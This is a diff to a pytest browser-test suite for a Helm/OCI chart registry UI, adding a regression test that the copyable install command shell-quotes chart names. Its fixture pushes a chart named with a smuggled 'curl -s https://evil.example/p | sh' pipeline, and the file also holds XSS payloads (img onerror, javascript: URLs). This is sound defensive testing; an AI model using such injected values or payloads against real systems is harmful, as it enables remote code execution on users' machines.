@@ -11,13 +11,14 @@ from __future__ import annotations
 import base64
 import json
 import re
+import shlex
 import uuid
 
 import pytest
 
 from harness.browser import ARTIFACTS, launch, offline
 from harness.helm import helm_push, make_chart
-from harness.oci import push_artifact, push_image, push_index
+from harness.oci import push_artifact, push_chart, push_image, push_index
 from harness.processes import wait_until
 from ocicat import accounts
 from ocicat.catalog import visibility
@@ -76,6 +77,9 @@ evil: "<img src=x onerror={PAYLOAD}>"
 """
 
 
+INJECTED_NAME = "x\ncurl -s https://evil.example/p | sh\n#"
+
+
 @pytest.fixture(scope="module")
 def catalog(stack, tmp_path_factory):
     """What the tests look for, pushed for real: two chart versions, a hostile chart, an image family."""
@@ -97,6 +101,8 @@ def catalog(stack, tmp_path_factory):
         keywords=[HOSTILE_TEXT], annotations={"evil": HOSTILE_TEXT},
         maintainers=[{"name": HOSTILE_TEXT, "email": "x@example.com", "url": f"javascript:{PAYLOAD}"}])
     helm_push(hostile, stack.registry, f"{ns}/charts")
+    # Helm refuses to create or load a chart named so; a plain OCI push has no such scruple.
+    push_chart(stack.registry.url, f"{ns}/charts/inject", "1.0.0", "1.0.0", name=INJECTED_NAME)
 
     images = f"{ns}/images/api"
     amd = push_image(stack.registry.url, images, "1.0", seed=f"{ns}-amd")
@@ -116,10 +122,12 @@ def catalog(stack, tmp_path_factory):
     def indexed():
         tags = stack.tags(images)
         return (len(stack.tags(f"{ns}/charts/webapp")) == 2 and stack.tags(f"{ns}/charts/evil")
+                and stack.tags(f"{ns}/charts/inject")
                 and {"1.0", "1.0-arm64", "multi"} <= set(tags) and tags["1.0"]["signed"] and tags["1.0"]["has_sbom"])
 
     wait_until(indexed, timeout=20, what="the UI catalog")
-    return {"ns": ns, "chart": f"{ns}/charts/webapp", "evil": f"{ns}/charts/evil", "image": images, "amd": amd}
+    return {"ns": ns, "chart": f"{ns}/charts/webapp", "evil": f"{ns}/charts/evil", "inject": f"{ns}/charts/inject",
+            "image": images, "amd": amd}
 
 
 class Watch:
@@ -374,6 +382,19 @@ def test_hostile_chart_content_runs_nothing_and_the_policy_holds(open_page, cata
     assert "unsafe" not in response.headers["content-security-policy"]
     assert response.headers["x-content-type-options"] == "nosniff"
     assert response.headers["referrer-policy"] == "no-referrer"
+
+
+def test_a_copied_command_runs_no_more_than_it_says_whatever_the_chart_is_called(open_page, catalog):
+    """The install command used to put the chart's name in unquoted: this one's name put a pipeline to sh on the
+    clipboard. Every word is quoted for the shell now, and the chart says what Helm makes of its name."""
+    page, watch = open_page(f"/ui/charts/{catalog['inject']}/1.0.0")
+    install = page.locator(".command", has_text="install").locator("code")
+    expect(install).to_contain_text("helm install")
+    words = shlex.split(install.text_content())
+    assert words[:3] == ["helm", "install", INJECTED_NAME] and len(words) == 4 and words[3].startswith("oci://")
+    assert shlex.split(page.locator(".command", has_text="pull").locator("code").text_content())[:2] == ["helm", "pull"]
+    expect(page.get_by_role("list", name="Warnings")).to_contain_text("Helm refuses to load a chart named so")
+    watch.assert_quiet()
 
 
 def test_what_a_sanitizer_slip_would_let_through_the_browser_still_refuses(open_page, catalog):
